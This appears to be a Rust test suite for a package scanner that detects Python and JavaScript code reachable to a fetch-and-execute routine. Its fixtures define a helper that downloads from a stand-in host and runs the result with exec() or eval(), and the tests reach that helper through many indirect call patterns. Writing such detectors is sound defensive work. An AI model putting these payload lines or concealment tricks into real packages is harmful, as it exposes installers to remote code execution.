use crate::flow::testing::{remote_code, script, wheel};
use crate::unpack::{Entry, text_file as file};
use customs_model::Zone;

fn runs(entries: Vec<Entry>) -> bool {
    remote_code(entries) > Some(Zone::Command)
}

const PYTHON: &str = "\
import sys
import urllib.request
def go(*more):
    exec(urllib.request.urlopen('https://a.invalid/b').read())
";

fn python(code: &str, other: &str) -> bool {
    let mut entries = wheel(&format!("{PYTHON}{code}"));
    entries.push(file("a/b.py", &format!("{PYTHON}{other}")));
    runs(entries)
}

fn javascript(code: &str) -> bool {
    let go = "const go = () => require('https').get('https://a.invalid/b', (r) => {
            let d = ''; r.on('data', (c) => d += c); r.on('end', () => eval(d)) });";
    runs(script(&format!("{go}\n{code}")))
}

#[test]
fn each_function_that_a_name_of_python_may_mean_is_entered() {
    let twice = "def f():\n    pass\ndef f():\n    go()\n";
    let by_system = "if sys.argv:\n    def f():\n        pass\nelse:\n    def f():\n        go()\n";
    let by_library = "\
try:
    from json import f
except ImportError:
    def f():
        go()
";
    let by_choice = "f = print if sys.argv else go\n";
    let in_class = "class f:\n    pass\ndef f():\n    go()\n";
    for given in [twice, by_system, by_library, by_choice, in_class] {
        assert!(python(&format!("{given}f()\n"), ""), "{given}");
        assert!(python("from .b import f\nf()\n", given), "{given}");
        assert!(python("from . import b\nb.f()\n", given), "{given}");
        assert!(!python(given, ""), "{given}");
        assert!(!python("from .b import f\n", given), "{given}");
    }
}

#[test]
fn of_a_class_the_last_method_of_a_name_holds_before_those_above_it() {
    let twice = "class A:\n    def f(self):\n        pass\n    def f(self):\n        go()\n";
    let over = "\
class B:
    def f(self):
        pass
class A(B):
    def f(self):
        go()
";
    let over_library = "\
import json
class A(json.JSONEncoder):
    def f(self):
        go()
";
    let by_system = "\
class A:
    if sys.argv:
        def f(self):
            pass
    else:
        def f(self):
            go()
";
    for given in [twice, over, over_library, by_system] {
        assert!(python(&format!("{given}A().f()\n"), ""), "{given}");
        assert!(!python(&format!("{given}A()\n"), ""), "{given}");
    }
    let calm = over.replace("class A", "class C");
    assert!(!python(&format!("{calm}B().f()\n"), ""), "{calm}");
}

#[test]
fn an_object_is_followed_through_modules_fields_and_other_classes() {
    let class = "class C:\n    def f(self):\n        go()\n";
    for call in ["b.C().f()", "x = b.C()\nx.f()", "b.C.f(None)"] {
        assert!(
            python(&format!("from . import b\n{call}\n"), class),
            "{call}"
        );
    }
    let field = "\
class M:
    def __init__(self):
        self.c = C()
        self.g = go
    def run(self):
        self.c.f()
    def other(self):
        self.g()
";
    for call in ["M().run()", "M().other()", "m = M()\nm.c.f()"] {
        assert!(python(&format!("{class}{field}{call}\n"), ""), "{call}");
    }
    assert!(!python(&format!("{class}{field}M()\n"), ""));
    let inner = "class C:\n    class D:\n        def f(self):\n            go()\nC.D().f()\n";
    assert!(python(inner, ""));
    let called = "class C:\n    def __call__(self):\n        go()\nc = C()\n";
    assert!(python(&format!("{called}c()\n"), ""));
    assert!(!python(called, ""));
    let above = "class B:\n    def __init__(self):\n        go()\nclass A(B):\n    pass\n";
    assert!(python(&format!("{above}A()\n"), ""));
    assert!(!python(above, ""));
}

#[test]
fn a_group_of_commands_that_is_made_from_a_tool_s_keeps_its_commands() {
    let group = "\
import click
class Group(click.Group):
    def command(self, name):
        def above(f):
            self.add_command(made(f), name)
            return f
        return above
cli = Group()
@cli.command('x')
def x():
    go()
";
    assert!(!python(group, ""));
    assert!(python(&group.replace("made(f)", "f()"), ""));
    assert!(python(&group.replace("(click.Group)", ""), ""));
}

#[test]
fn a_name_that_is_looked_up_is_the_function_of_that_name() {
    for call in [
        "globals()['go']()",
        "globals()['g' + 'o']()",
        "globals().get('go')()",
        "vars()['go']()",
        "getattr(sys.modules[__name__], 'go')()",
    ] {
        assert!(python(call, ""), "{call}");
    }
    assert!(!python("globals()['no']()", ""));
}

#[test]
fn what_the_language_calls_of_an_object_runs_once_it_is_made() {
    for method in ["__del__", "__getattr__", "__iter__", "__add__", "__str__"] {
        let class = format!("class C:\n    def {method}(self, *o):\n        go()\n");
        assert!(python(&format!("{class}c = C()\n"), ""), "{method}");
        assert!(!python(&class, ""), "{method}");
    }
}

#[test]
fn a_function_of_javascript_that_is_given_fields_is_not_called_by_that() {
    for dressed in [
        "Object.assign(f, { a: 1 })",
        "Object.defineProperty(f, 'a', { value: 1 })",
        "Object.setPrototypeOf(f, f)",
        "require('util').inherits(f, f)",
    ] {
        assert!(
            !javascript(&format!("function f() {{ go() }}\n{dressed}")),
            "{dressed}"
        );
        assert!(
            javascript(&format!("function f() {{ go() }}\n{dressed}\nf()")),
            "{dressed}"
        );
    }
    assert!(javascript("[1].map(go)"));
}

#[test]
fn of_javascript_the_last_declaration_holds_from_the_start() {
    let functions = "function f() {}\nfunction f() { go() }\n";
    assert!(javascript(&format!("{functions}f()")));
    assert!(javascript(&format!("f()\n{functions}")));
    assert!(!javascript(functions));
    let methods = "class A { f() {} f() { go() } }\n";
    assert!(javascript(&format!("{methods}new A().f()")));
    assert!(!javascript(methods));
    assert!(!javascript(
        "class B { f() { go() } }\nclass A extends B { f() {} }\nnew A().f()"
    ));
}

#[test]
fn fields_that_are_made_of_each_other_are_each_asked_once() {
    // 16 fields, each of which may be any other: as many ways as 16 to the power of the levels.
    let mut code = String::from("class D:\n    def run(self):\n        go()\n");
    code.push_str("class C:\n    def __init__(self):\n        self.f15 = D()\n");
    for field in 0..16 {
        for other in (0..16).rev().filter(|other| *other != field) {
            code.push_str(&format!("        self.f{field} = self.f{other}\n"));
        }
    }
    code.push_str("    def all(self):\n        self.f0.run()\nC().all()\n");
    assert!(python(&code, ""));
}
